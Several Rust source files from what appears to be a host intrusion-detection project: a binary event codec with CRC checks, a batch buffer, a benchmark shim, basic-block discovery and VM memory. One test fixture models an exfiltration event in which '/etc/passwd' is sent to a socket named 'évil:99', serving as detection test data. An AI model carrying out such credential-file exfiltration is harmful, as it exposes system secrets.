    /// event never gets close, so the length itself is corrupt. Decoders
    /// must refuse *before* allocating the claimed size.
    FrameTooLarge(u64),
}

/// Upper bound on a single journal frame's payload, in bytes. Real
/// events encode to well under a kilobyte; anything past this is a
/// corrupt length prefix, not a big event.
pub const MAX_FRAME_LEN: u64 = 1 << 20;

impl fmt::Display for WireError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            WireError::Io(e) => write!(f, "i/o error: {e}"),
            WireError::BadMagic(m) => write!(f, "bad magic {m:02x?} (not an HTH event stream)"),
            WireError::BadVersion(v) => write!(f, "unsupported wire version {v} (max {VERSION})"),
            WireError::BadTag(t) => write!(f, "unknown event tag {t}"),
            WireError::BadResourceType(c) => write!(f, "unknown resource-type code {c}"),
            WireError::BadSeverity(l) => write!(f, "unknown severity level {l}"),
            WireError::BadStringRef(i) => write!(f, "string back-reference {i} out of range"),
            WireError::Utf8(e) => write!(f, "string is not UTF-8: {e}"),
            WireError::Truncated => f.write_str("input truncated mid-value"),
            WireError::VarintOverflow => f.write_str("varint longer than 64 bits"),
            WireError::Crc { stored, computed } => {
                write!(f, "frame CRC mismatch (stored {stored:#010x}, computed {computed:#010x})")
            }
            WireError::FrameTooLarge(len) => {
                write!(f, "frame length {len} exceeds the {MAX_FRAME_LEN}-byte bound")
            }
        }
    }
}

impl std::error::Error for WireError {}

impl From<std::io::Error> for WireError {
    fn from(e: std::io::Error) -> WireError {
        WireError::Io(e)
    }
}

/// Writes the stream header (magic + version).
pub fn write_header(out: &mut Vec<u8>) {
    write_header_versioned(out, VERSION);
}

/// Writes a stream header with an explicit version byte (journal v2
/// streams share the magic but carry their own framing version).
pub fn write_header_versioned(out: &mut Vec<u8>, version: u8) {
    out.extend_from_slice(&MAGIC);
    out.push(version);
}

/// Checks the magic and returns the stream's version byte, leaving the
/// version policy to the caller (journals accept more versions than raw
/// wire streams do).
///
/// # Errors
///
/// [`WireError::BadMagic`] on foreign streams, [`WireError::Truncated`]
/// on short input.
pub fn read_header_any(buf: &[u8]) -> Result<u8, WireError> {
    let header = buf.get(..HEADER_LEN).ok_or(WireError::Truncated)?;
    if header[..4] != MAGIC {
        return Err(WireError::BadMagic([header[0], header[1], header[2], header[3]]));
    }
    Ok(header[4])
}

const fn crc32_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        let mut crc = i as u32;
        let mut bit = 0;
        while bit < 8 {
            crc = if crc & 1 != 0 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
            bit += 1;
        }
        table[i] = crc;
        i += 1;
    }
    table
}

static CRC32_TABLE: [u32; 256] = crc32_table();

/// CRC32 (IEEE 802.3 polynomial) of a byte slice — the per-frame
/// checksum of journal v2.
pub fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &byte in bytes {
        crc = (crc >> 8) ^ CRC32_TABLE[((crc ^ u32::from(byte)) & 0xff) as usize];
    }
    !crc
}

/// Size of the stream header in bytes.
pub const HEADER_LEN: usize = MAGIC.len() + 1;

/// Checks the stream header; returns the number of bytes consumed.
///
/// # Errors
///
/// [`WireError::BadMagic`] / [`WireError::BadVersion`] on foreign or
/// future streams, [`WireError::Truncated`] on short input.
pub fn read_header(buf: &[u8]) -> Result<usize, WireError> {
    let header = buf.get(..HEADER_LEN).ok_or(WireError::Truncated)?;
    if header[..4] != MAGIC {
        return Err(WireError::BadMagic([header[0], header[1], header[2], header[3]]));
    }
    if !(MIN_VERSION..=VERSION).contains(&header[4]) {
        return Err(WireError::BadVersion(header[4]));
    }
    Ok(HEADER_LEN)
}

/// Appends `v` as an LEB128 varint — the codec's integer shape, exposed
/// for framing layers (the journal and the serve protocol) that wrap
/// event payloads in varint-length frames.
pub fn put_varint(out: &mut Vec<u8>, mut v: u64) {
    loop {
        let byte = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

/// Decodes one LEB128 varint from the front of `buf`; returns the value
/// and the number of bytes consumed.
///
/// # Errors
///
/// [`WireError::Truncated`] on short input, [`WireError::VarintOverflow`]
/// past 64 bits.
pub fn read_varint(buf: &[u8]) -> Result<(u64, usize), WireError> {
    let mut cur = Cursor { buf, pos: 0 };
    let value = cur.varint()?;
    Ok((value, cur.pos))
}

/// Encodes [`SecpertEvent`]s into a stream, growing the string table as
/// it goes. One encoder per stream; events must be decoded by a single
/// [`EventDecoder`] in the same order.
#[derive(Debug)]
pub struct EventEncoder {
    strings: HashMap<String, u64>,
    version: u8,
}

impl Default for EventEncoder {
    fn default() -> EventEncoder {
        EventEncoder::new()
    }
}

impl EventEncoder {
    /// A fresh encoder with an empty string table, emitting the current
    /// event-codec version.
    pub fn new() -> EventEncoder {
        EventEncoder::for_version(VERSION)
    }

    /// An encoder for an explicit event-codec version (legacy journal
    /// framings imply legacy event records).
    pub fn for_version(version: u8) -> EventEncoder {
        EventEncoder { strings: HashMap::new(), version }
    }

    /// Number of distinct strings interned so far.
    pub fn interned_strings(&self) -> usize {
        self.strings.len()
    }

    /// Appends one event's encoding to `out`.
    pub fn encode(&mut self, event: &SecpertEvent, out: &mut Vec<u8>) {
        match event {
            SecpertEvent::ResourceAccess {
                pid,
                syscall,
                resource,
                origin,
                time,
                frequency,
                address,
                proc_count,
                proc_rate,
                mem_total,
                server,
            } => {
                out.push(TAG_RESOURCE_ACCESS);
                put_varint(out, u64::from(*pid));
                self.put_str(out, syscall);
                self.put_source(out, resource);
                self.put_origin(out, origin);
                put_varint(out, *time);
                put_varint(out, *frequency);
                put_varint(out, u64::from(*address));
                self.put_opt_u64(out, *proc_count);
                self.put_opt_u64(out, *proc_rate);
                self.put_opt_u64(out, *mem_total);
                self.put_server(out, server);
            }
            SecpertEvent::DataTransfer {
                pid,
                syscall,
                data_sources,
                data_origin,
                target,
                target_origin,
                time,
                frequency,
                address,
                executable_content,
                server,
                bytes,
            } => {
                out.push(TAG_DATA_TRANSFER);
                put_varint(out, u64::from(*pid));
                self.put_str(out, syscall);
                put_varint(out, data_sources.len() as u64);
                for source in data_sources {
                    self.put_source(out, source);
                }
                self.put_origin(out, data_origin);
                self.put_source(out, target);
                self.put_origin(out, target_origin);
                put_varint(out, *time);
                put_varint(out, *frequency);
                put_varint(out, u64::from(*address));
                out.push(u8::from(*executable_content));
                self.put_server(out, server);
                if self.version >= 2 {
                    put_varint(out, *bytes);
                }
            }
        }
    }

    fn put_str(&mut self, out: &mut Vec<u8>, s: &str) {
        if let Some(idx) = self.strings.get(s) {
            put_varint(out, idx + 1);
            return;
        }
        put_varint(out, 0);
        put_varint(out, s.len() as u64);
        out.extend_from_slice(s.as_bytes());
        self.strings.insert(s.to_string(), self.strings.len() as u64);
    }

    fn put_source(&mut self, out: &mut Vec<u8>, source: &SourceInfo) {
        out.push(source.kind.code());
        self.put_str(out, &source.name);
    }

    fn put_origin(&mut self, out: &mut Vec<u8>, origin: &Origin) {
        put_varint(out, origin.sources.len() as u64);
        for source in &origin.sources {
            self.put_source(out, source);
        }
    }

    fn put_opt_u64(&mut self, out: &mut Vec<u8>, v: Option<u64>) {
        match v {
            Some(v) => {
                out.push(1);
                put_varint(out, v);
            }
            None => out.push(0),
        }
    }

    fn put_server(&mut self, out: &mut Vec<u8>, server: &Option<ServerInfo>) {
        match server {
            Some(info) => {
                out.push(1);
                self.put_str(out, &info.address);
                self.put_origin(out, &info.origin);
            }
            None => out.push(0),
        }
    }
}

/// Decodes a stream produced by one [`EventEncoder`], mirroring its
/// string table.
#[derive(Debug)]
pub struct EventDecoder {
    strings: Vec<String>,
    version: u8,
}

impl Default for EventDecoder {
    fn default() -> EventDecoder {
        EventDecoder::new()
    }
}

/// Cursor over the undecoded remainder of a buffer (shared with the
/// digest codec in [`crate::digest_wire`]).
pub(crate) struct Cursor<'a> {
    pub(crate) buf: &'a [u8],
    pub(crate) pos: usize,
}

impl Cursor<'_> {
    pub(crate) fn byte(&mut self) -> Result<u8, WireError> {
        let b = *self.buf.get(self.pos).ok_or(WireError::Truncated)?;
        self.pos += 1;
        Ok(b)
    }

    pub(crate) fn take(&mut self, n: usize) -> Result<&[u8], WireError> {
        let end = self.pos.checked_add(n).ok_or(WireError::Truncated)?;
        let bytes = self.buf.get(self.pos..end).ok_or(WireError::Truncated)?;
        self.pos = end;
        Ok(bytes)
    }

    pub(crate) fn varint(&mut self) -> Result<u64, WireError> {
        let mut value = 0u64;
        let mut shift = 0u32;
        loop {
            let byte = self.byte()?;
            if shift >= 64 || (shift == 63 && byte > 1) {
                return Err(WireError::VarintOverflow);
            }
            value |= u64::from(byte & 0x7f) << shift;
            if byte & 0x80 == 0 {
                return Ok(value);
            }
            shift += 7;
        }
    }
}

impl EventDecoder {
    /// A fresh decoder with an empty string table, expecting the
    /// current event-codec version.
    pub fn new() -> EventDecoder {
        EventDecoder::for_version(VERSION)
    }

    /// A decoder for an explicit event-codec version (version-1 streams
    /// predate the `DataTransfer` byte counter and decode it as 0).
    pub fn for_version(version: u8) -> EventDecoder {
        EventDecoder { strings: Vec::new(), version }
    }

    /// Decodes one event from the front of `buf`; returns the event and
    /// the number of bytes consumed.
    ///
    /// # Errors
    ///
    /// Any [`WireError`] on malformed input. The decoder's string table
    /// may have grown by then; discard the decoder after an error.
    pub fn decode(&mut self, buf: &[u8]) -> Result<(SecpertEvent, usize), WireError> {
        let mut cur = Cursor { buf, pos: 0 };
        let event = match cur.byte()? {
            TAG_RESOURCE_ACCESS => SecpertEvent::ResourceAccess {
                pid: cur.varint()? as u32,
                syscall: intern_syscall(&self.get_str(&mut cur)?),
                resource: self.get_source(&mut cur)?,
                origin: self.get_origin(&mut cur)?,
                time: cur.varint()?,
                frequency: cur.varint()?,
                address: cur.varint()? as u32,
                proc_count: self.get_opt_u64(&mut cur)?,
                proc_rate: self.get_opt_u64(&mut cur)?,
                mem_total: self.get_opt_u64(&mut cur)?,
                server: self.get_server(&mut cur)?,
            },
            TAG_DATA_TRANSFER => SecpertEvent::DataTransfer {
                pid: cur.varint()? as u32,
                syscall: intern_syscall(&self.get_str(&mut cur)?),
                data_sources: {
                    let n = cur.varint()? as usize;
                    let mut sources = Vec::with_capacity(n.min(64));
                    for _ in 0..n {
                        sources.push(self.get_source(&mut cur)?);
                    }
                    sources
                },
                data_origin: self.get_origin(&mut cur)?,
                target: self.get_source(&mut cur)?,
                target_origin: self.get_origin(&mut cur)?,
                time: cur.varint()?,
                frequency: cur.varint()?,
                address: cur.varint()? as u32,
                executable_content: cur.byte()? != 0,
                server: self.get_server(&mut cur)?,
                bytes: if self.version >= 2 { cur.varint()? } else { 0 },
            },
            tag => return Err(WireError::BadTag(tag)),
        };
        Ok((event, cur.pos))
    }

    fn get_str(&mut self, cur: &mut Cursor<'_>) -> Result<String, WireError> {
        let marker = cur.varint()?;
        if marker == 0 {
            let len = cur.varint()? as usize;
            let text = std::str::from_utf8(cur.take(len)?).map_err(WireError::Utf8)?;
            self.strings.push(text.to_string());
            return Ok(text.to_string());
        }
        self.strings.get(marker as usize - 1).cloned().ok_or(WireError::BadStringRef(marker - 1))
    }

    fn get_source(&mut self, cur: &mut Cursor<'_>) -> Result<SourceInfo, WireError> {
        let code = cur.byte()?;
        let kind = ResourceType::from_code(code).ok_or(WireError::BadResourceType(code))?;
        let name = self.get_str(cur)?;
        Ok(SourceInfo { kind, name })
    }

    fn get_origin(&mut self, cur: &mut Cursor<'_>) -> Result<Origin, WireError> {
        let n = cur.varint()? as usize;
        let mut sources = Vec::with_capacity(n.min(64));
        for _ in 0..n {
            sources.push(self.get_source(cur)?);
        }
        Ok(Origin { sources })
    }

    fn get_opt_u64(&mut self, cur: &mut Cursor<'_>) -> Result<Option<u64>, WireError> {
        match cur.byte()? {
            0 => Ok(None),
            _ => Ok(Some(cur.varint()?)),
        }
    }

    fn get_server(&mut self, cur: &mut Cursor<'_>) -> Result<Option<ServerInfo>, WireError> {
        match cur.byte()? {
            0 => Ok(None),
            _ => {
                let address = self.get_str(cur)?;
                let origin = self.get_origin(cur)?;
                Ok(Some(ServerInfo { address, origin }))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_access() -> SecpertEvent {
        SecpertEvent::ResourceAccess {
            pid: 1,
            syscall: "SYS_execve",
            resource: SourceInfo::new(ResourceType::File, "/bin/ls"),
            origin: Origin { sources: vec![SourceInfo::new(ResourceType::Binary, "/bin/app")] },
            time: 42,
            frequency: 7,
            address: 0x0804_8403,
            proc_count: Some(3),
            proc_rate: None,
            mem_total: None,
            server: None,
        }
    }

    fn sample_transfer() -> SecpertEvent {
        SecpertEvent::DataTransfer {
            pid: 300,
            syscall: "SYS_write",
            data_sources: vec![
                SourceInfo::new(ResourceType::File, "/etc/passwd"),
                SourceInfo::new(ResourceType::UserInput, ""),
            ],
            data_origin: Origin::unknown(),
            target: SourceInfo::new(ResourceType::Socket, "évil:99 (AF_INET)"),
            target_origin: Origin {
                sources: vec![SourceInfo::new(ResourceType::Binary, "/bin/app")],
            },
            time: u64::MAX,
            frequency: 0,
            address: u32::MAX,
            executable_content: true,
            server: Some(ServerInfo {
                address: "LocalHost:11116 (AF_INET)".into(),
                origin: Origin { sources: vec![SourceInfo::new(ResourceType::Binary, "pmad")] },
            }),
            bytes: 1 << 40,
        }
    }

    /// A v1 encoder/decoder pair round-trips everything except the
    /// byte counter, which v1 streams cannot carry.
    #[test]
    fn v1_streams_decode_with_zero_bytes() {
        let mut enc = EventEncoder::for_version(1);
        let mut buf = Vec::new();
        enc.encode(&sample_transfer(), &mut buf);
        let mut dec = EventDecoder::for_version(1);
        let (decoded, used) = dec.decode(&buf).unwrap();
        assert_eq!(used, buf.len());
        let mut expected = sample_transfer();
        if let SecpertEvent::DataTransfer { bytes, .. } = &mut expected {
            *bytes = 0;
        }
        assert_eq!(decoded, expected);
    }

    #[test]
    fn round_trip_both_variants() {
        let mut enc = EventEncoder::new();
        let mut buf = Vec::new();
        write_header(&mut buf);
        enc.encode(&sample_access(), &mut buf);
        enc.encode(&sample_transfer(), &mut buf);

        let mut dec = EventDecoder::new();
        let mut pos = read_header(&buf).unwrap();
        let (a, used) = dec.decode(&buf[pos..]).unwrap();
        pos += used;
        assert_eq!(a, sample_access());
        let (b, used) = dec.decode(&buf[pos..]).unwrap();
        pos += used;
        assert_eq!(b, sample_transfer());
        assert_eq!(pos, buf.len());
    }

    #[test]
    fn interning_makes_repeats_cheap() {
        let mut enc = EventEncoder::new();
        let mut first = Vec::new();
        enc.encode(&sample_access(), &mut first);
        let mut second = Vec::new();
        enc.encode(&sample_access(), &mut second);
        assert!(
            second.len() < first.len() / 2,
            "repeat encoding should collapse to back-references: {} vs {}",
            second.len(),
            first.len()
        );
    }

    #[test]
    fn crc32_known_answers() {
        // The IEEE 802.3 check value, plus the empty-input identity.
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b""), 0);
        assert_ne!(crc32(b"abc"), crc32(b"abd"), "single-bit change must move the checksum");
    }

    #[test]
    fn header_any_returns_the_version() {
        assert_eq!(read_header_any(b"HTHW\x02rest").unwrap(), 2);
        assert!(matches!(read_header_any(b"NOPE\x01"), Err(WireError::BadMagic(_))));
        assert!(matches!(read_header_any(b"HTH"), Err(WireError::Truncated)));
    }

    #[test]
    fn header_rejects_foreign_streams() {
        assert!(matches!(read_header(b"HTH"), Err(WireError::Truncated)));
        assert!(matches!(read_header(b"NOPE\x01rest"), Err(WireError::BadMagic(_))));
        assert!(matches!(read_header(b"HTHW\x63rest"), Err(WireError::BadVersion(0x63))));
    }

    #[test]
    fn malformed_input_errors_cleanly() {
        let mut dec = EventDecoder::new();
        assert!(matches!(dec.decode(&[]), Err(WireError::Truncated)));
        assert!(matches!(dec.decode(&[9]), Err(WireError::BadTag(9))));
        // ResourceAccess with a string back-reference into an empty table.
        assert!(matches!(
            EventDecoder::new().decode(&[TAG_RESOURCE_ACCESS, 1, 5]),
            Err(WireError::BadStringRef(4))
        ));
        // Varint that never terminates within 64 bits.
        let mut buf = vec![TAG_RESOURCE_ACCESS];
        buf.extend_from_slice(&[0xff; 11]);
        assert!(matches!(EventDecoder::new().decode(&buf), Err(WireError::VarintOverflow)));
    }
}
