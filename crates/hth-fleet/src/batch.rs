//! A reusable event batch buffer: the unit of work of the batched hot
//! path.
//!
//! Both sides of the event protocol move events in batches to amortize
//! their per-event crossings — the analyst pool drains its shard queue
//! into one ([`crate::pool::PoolConfig::batch_size`] events per lock
//! crossing), and the replay path decodes journal frames into one
//! before feeding the engine ([`crate::journal::replay_batched`]). The
//! buffer itself is allocated once and refilled: `clear` keeps the
//! spine's capacity, so steady-state batch turnover costs no
//! allocations beyond the events' own payloads.

use std::io::Read;

use harrier::SecpertEvent;

use crate::journal::JournalReader;
use crate::wire::WireError;

/// A reusable batch of decoded events.
#[derive(Debug, Default)]
pub struct EventBatch {
    events: Vec<SecpertEvent>,
}

impl EventBatch {
    /// An empty batch with room for `capacity` events.
    pub fn with_capacity(capacity: usize) -> EventBatch {
        EventBatch { events: Vec::with_capacity(capacity) }
    }

    /// Empties the batch, keeping its capacity for the next refill.
    pub fn clear(&mut self) {
        self.events.clear();
    }

    /// Number of buffered events.
    pub fn len(&self) -> usize {
        self.events.len()
    }

    /// True when no events are buffered.
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }

    /// Appends one event.
    pub fn push(&mut self, event: SecpertEvent) {
        self.events.push(event);
    }

    /// The buffered events, in arrival order.
    pub fn as_slice(&self) -> &[SecpertEvent] {
        &self.events
    }

    /// Mutable access to the underlying buffer, for handing a batch to
    /// sinks that drain a `Vec` (e.g. `AnalystPool::submit_batch`).
    pub fn as_vec_mut(&mut self) -> &mut Vec<SecpertEvent> {
        &mut self.events
    }

    /// Clears the batch, then decodes up to `max` frames from the
    /// reader into it. Returns the number of events decoded; fewer than
    /// `max` (possibly zero) means the journal is exhausted.
    ///
    /// # Errors
    ///
    /// Propagates wire-level decode errors (corruption, truncation).
    pub fn refill<R: Read>(
        &mut self,
        reader: &mut JournalReader<R>,
        max: usize,
    ) -> Result<usize, WireError> {
        self.events.clear();
        while self.events.len() < max {
            match reader.next_event()? {
                Some(event) => self.events.push(event),
                None => break,
            }
        }
        Ok(self.events.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::journal::JournalWriter;
    use harrier::{Origin, ResourceType, SourceInfo};

    fn event(i: u64) -> SecpertEvent {
        SecpertEvent::ResourceAccess {
            pid: 1,
            syscall: "SYS_open",
            resource: SourceInfo::new(ResourceType::File, format!("/tmp/f{i}")),
            origin: Origin::unknown(),
            time: i,
            frequency: 1,
            address: 0,
            proc_count: None,
            proc_rate: None,
            mem_total: None,
            server: None,
        }
    }

    #[test]
    fn refill_batches_a_journal() {
        let mut writer = JournalWriter::new(Vec::new()).unwrap();
        for i in 0..10 {
            writer.append(&event(i)).unwrap();
        }
        let bytes = writer.finish().unwrap();
        let mut reader = JournalReader::new(&bytes[..]).unwrap();
        let mut batch = EventBatch::with_capacity(4);
        let mut seen = Vec::new();
        loop {
            let n = batch.refill(&mut reader, 4).unwrap();
            if n == 0 {
                break;
            }
            assert!(n <= 4);
            seen.extend(batch.as_slice().iter().cloned());
        }
        assert_eq!(seen.len(), 10);
        assert_eq!(seen, (0..10).map(event).collect::<Vec<_>>());
        assert!(batch.is_empty());
    }
}
