//! # criterion-shim — an offline, dependency-free subset of `criterion`
//!
//! The build container has no network access, so the real `criterion`
//! crate cannot be downloaded. This shim provides the API surface the
//! repository's benches use — [`Criterion`], [`criterion_group!`],
//! [`criterion_main!`], benchmark groups, `iter`/`iter_batched`,
//! [`black_box`] — measuring with `std::time::Instant` and printing
//! `[min median max]` per-iteration times in criterion's style.
//!
//! Flags understood (all others are ignored so `cargo bench`'s argument
//! passing never breaks):
//!
//! * `--test` — run every benchmark body exactly once and report `ok`;
//!   this is the smoke mode CI uses.
//! * any bare argument — substring filter on benchmark names.

#![warn(missing_docs)]

use std::time::{Duration, Instant};

pub use std::hint::black_box;

/// How `iter_batched` amortises setup cost. The shim runs one setup per
/// iteration regardless; the variants exist for API compatibility.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum BatchSize {
    /// Small per-iteration inputs.
    SmallInput,
    /// Medium per-iteration inputs.
    LargeInput,
    /// One setup per measured iteration.
    PerIteration,
}

/// Per-benchmark measurement driver handed to bench closures.
pub struct Bencher {
    test_mode: bool,
    sample_size: usize,
    /// Mean per-iteration nanoseconds, one entry per sample.
    samples: Vec<f64>,
}

impl Bencher {
    /// Measures `routine`, called in a timing loop.
    pub fn iter<O>(&mut self, mut routine: impl FnMut() -> O) {
        if self.test_mode {
            black_box(routine());
            return;
        }
        // Calibrate: how many iterations fit in ~5 ms?
        let mut iters = 1u64;
        loop {
            let start = Instant::now();
            for _ in 0..iters {
                black_box(routine());
            }
            let elapsed = start.elapsed();
            if elapsed >= Duration::from_millis(5) || iters >= 1 << 20 {
                break;
            }
            iters *= 2;
        }
        for _ in 0..self.sample_size {
            let start = Instant::now();
            for _ in 0..iters {
                black_box(routine());
            }
            self.samples.push(start.elapsed().as_nanos() as f64 / iters as f64);
        }
    }

    /// Measures `routine` over fresh inputs from `setup` (setup time is
    /// excluded from the measurement).
    pub fn iter_batched<I, O>(
        &mut self,
        mut setup: impl FnMut() -> I,
        mut routine: impl FnMut(I) -> O,
        _size: BatchSize,
    ) {
        if self.test_mode {
            black_box(routine(setup()));
            return;
        }
        for _ in 0..self.sample_size.max(10) {
            let input = setup();
            let start = Instant::now();
            black_box(routine(input));
            self.samples.push(start.elapsed().as_nanos() as f64);
        }
    }
}

fn format_ns(ns: f64) -> String {
    if ns < 1_000.0 {
        format!("{ns:.1} ns")
    } else if ns < 1_000_000.0 {
        format!("{:.2} µs", ns / 1_000.0)
    } else if ns < 1_000_000_000.0 {
        format!("{:.2} ms", ns / 1_000_000.0)
    } else {
        format!("{:.2} s", ns / 1_000_000_000.0)
    }
}

/// Benchmark registry and runner.
pub struct Criterion {
    test_mode: bool,
    filter: Option<String>,
    sample_size: usize,
}

impl Default for Criterion {
    fn default() -> Criterion {
        Criterion { test_mode: false, filter: None, sample_size: 20 }
    }
}

impl Criterion {
    /// Builds a runner from the process arguments (see crate docs).
    pub fn from_args() -> Criterion {
        let mut c = Criterion::default();
        for arg in std::env::args().skip(1) {
            match arg.as_str() {
                "--test" => c.test_mode = true,
                a if a.starts_with("--") => {}
                a => c.filter = Some(a.to_string()),
            }
        }
        c
    }

    /// Runs (or skips) one benchmark.
    pub fn bench_function(
        &mut self,
        id: impl Into<String>,
        mut f: impl FnMut(&mut Bencher),
    ) -> &mut Self {
        let id = id.into();
        if let Some(filter) = &self.filter {
            if !id.contains(filter.as_str()) {
                return self;
            }
        }
        let mut bencher = Bencher {
            test_mode: self.test_mode,
            sample_size: self.sample_size,
            samples: Vec::new(),
        };
        f(&mut bencher);
        if self.test_mode {
            println!("test {id} ... ok");
        } else if bencher.samples.is_empty() {
            println!("{id:<50} (no samples)");
        } else {
            let mut s = bencher.samples;
            s.sort_by(|a, b| a.total_cmp(b));
            let (min, med, max) = (s[0], s[s.len() / 2], s[s.len() - 1]);
            println!("{id:<50} time: [{} {} {}]", format_ns(min), format_ns(med), format_ns(max));
        }
        self
    }

    /// Opens a named group of related benchmarks.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup { criterion: self, name: name.into(), sample_size: None }
    }
}

/// A named group of benchmarks (`group/name` ids).
pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
    sample_size: Option<usize>,
}

impl BenchmarkGroup<'_> {
    /// Overrides the per-benchmark sample count for this group.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = Some(n);
        self
    }

    /// Runs one benchmark within the group.
    pub fn bench_function(
        &mut self,
        id: impl Into<String>,
        f: impl FnMut(&mut Bencher),
    ) -> &mut Self {
        let full = format!("{}/{}", self.name, id.into());
        let saved = self.criterion.sample_size;
        if let Some(n) = self.sample_size {
            self.criterion.sample_size = n;
        }
        self.criterion.bench_function(full, f);
        self.criterion.sample_size = saved;
        self
    }

    /// Ends the group (no-op; exists for API compatibility).
    pub fn finish(self) {}
}

/// Declares a group-runner function over benchmark target functions.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        fn $name() {
            let mut criterion = $crate::Criterion::from_args();
            $($target(&mut criterion);)+
        }
    };
}

/// Declares `main` running the listed groups.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bench_function_runs_and_prints() {
        let mut c = Criterion { test_mode: true, filter: None, sample_size: 3 };
        let mut runs = 0;
        c.bench_function("smoke", |b| b.iter(|| runs += 1));
        assert_eq!(runs, 1, "test mode runs the body exactly once");
    }

    #[test]
    fn groups_prefix_names_and_filter_skips() {
        let mut c = Criterion { test_mode: true, filter: Some("zzz".into()), sample_size: 3 };
        let mut runs = 0;
        let mut group = c.benchmark_group("g");
        group.sample_size(5).bench_function("skipped", |b| b.iter(|| runs += 1));
        group.finish();
        assert_eq!(runs, 0, "filter must skip non-matching ids");
    }

    #[test]
    fn iter_batched_measures() {
        let mut b = Bencher { test_mode: false, sample_size: 4, samples: Vec::new() };
        b.iter_batched(|| 21u64, |x| x * 2, BatchSize::SmallInput);
        assert_eq!(b.samples.len(), 10);
    }

    #[test]
    fn ns_formatting() {
        assert_eq!(format_ns(12.0), "12.0 ns");
        assert_eq!(format_ns(12_500.0), "12.50 µs");
        assert_eq!(format_ns(3_200_000.0), "3.20 ms");
    }
}
