//! Basic-block discovery.
//!
//! A basic block is a maximal straight-line instruction sequence: if its
//! first instruction executes, all of them do (paper §7.4). Leaders are
//! the entry, every static jump/call target, and every instruction
//! following a control transfer.

use crate::isa::Instr;

/// Computes sorted basic-block leader addresses for a text section
/// starting at `base` (instructions are 4 address units apart).
pub fn find_leaders(base: u32, text: &[Instr]) -> Vec<u32> {
    let end = base + 4 * text.len() as u32;
    let mut leaders = vec![base];
    for (i, instr) in text.iter().enumerate() {
        if let Some(target) = instr.static_target() {
            if target >= base && target < end {
                leaders.push(target);
            }
        }
        if instr.ends_basic_block() {
            let next = base + 4 * (i as u32 + 1);
            if next < end {
                leaders.push(next);
            }
        }
    }
    leaders.sort_unstable();
    leaders.dedup();
    leaders
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::isa::{Cond, Instr, Operand, Reg, Target};

    #[test]
    fn straight_line_is_one_block() {
        let text = vec![Instr::Nop, Instr::Nop, Instr::Hlt];
        assert_eq!(find_leaders(0x1000, &text), vec![0x1000]);
    }

    #[test]
    fn branch_splits_blocks() {
        // 0x1000: jne 0x1008 ; 0x1004: nop ; 0x1008: hlt
        let text = vec![Instr::J(Cond::Ne, Target::Abs(0x1008)), Instr::Nop, Instr::Hlt];
        assert_eq!(find_leaders(0x1000, &text), vec![0x1000, 0x1004, 0x1008]);
    }

    #[test]
    fn call_target_and_fallthrough_are_leaders() {
        // 0: call 8 ; 4: hlt ; 8: ret
        let text = vec![Instr::Call(Target::Abs(8)), Instr::Hlt, Instr::Ret];
        assert_eq!(find_leaders(0, &text), vec![0, 4, 8]);
    }

    #[test]
    fn out_of_image_targets_ignored() {
        let text = vec![Instr::Jmp(Target::Abs(0x9999_0000)), Instr::Hlt];
        assert_eq!(find_leaders(0, &text), vec![0, 4]);
    }

    #[test]
    fn syscall_does_not_split_blocks() {
        let text = vec![
            Instr::Mov(Operand::Reg(Reg::Eax), Operand::Imm(5)),
            Instr::Int(0x80),
            Instr::Mov(Operand::Reg(Reg::Ebx), Operand::Imm(0)),
            Instr::Hlt,
        ];
        assert_eq!(find_leaders(0, &text), vec![0]);
    }
}
