//! Sparse paged memory for the virtual machine.

use std::collections::HashMap;
use std::fmt;

/// Page size in bytes (4 KiB, like the hardware being modelled).
pub const PAGE_SIZE: u32 = 4096;

/// Error raised on access to unmapped memory.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct MemFault {
    /// Faulting address.
    pub addr: u32,
}

impl fmt::Display for MemFault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "memory fault at {:#010x}", self.addr)
    }
}

impl std::error::Error for MemFault {}

/// A sparse, demand-allocated 32-bit address space.
///
/// Pages must be [mapped](Memory::map) before access — unmapped accesses
/// fault, which the interpreter reports as a crash of the monitored
/// program (faithful to running a real binary under Pin).
///
/// ```
/// use hth_vm::Memory;
/// let mut m = Memory::new();
/// m.map(0x1000, 0x2000);
/// m.write_u32(0x1ffc, 0xdead_beef).unwrap();
/// assert_eq!(m.read_u32(0x1ffc).unwrap(), 0xdead_beef);
/// assert!(m.read_u8(0x3000).is_err());
/// ```
#[derive(Clone, Debug, Default)]
pub struct Memory {
    pages: HashMap<u32, Box<[u8; PAGE_SIZE as usize]>>,
    mapped: Vec<(u32, u32)>,
}

impl Memory {
    /// Creates an empty address space.
    pub fn new() -> Memory {
        Memory::default()
    }

    /// Maps `[start, end)` (rounded out to page boundaries) as accessible,
    /// zero-filled memory. Mapping an already-mapped range is a no-op for
    /// the overlapping pages.
    pub fn map(&mut self, start: u32, end: u32) {
        assert!(start <= end, "map range reversed");
        let first = start / PAGE_SIZE;
        let last = end.saturating_add(PAGE_SIZE - 1) / PAGE_SIZE;
        for page in first..last {
            self.pages.entry(page).or_insert_with(|| Box::new([0; PAGE_SIZE as usize]));
        }
        self.mapped.push((start, end));
    }

    /// Mapped ranges in mapping order (diagnostics).
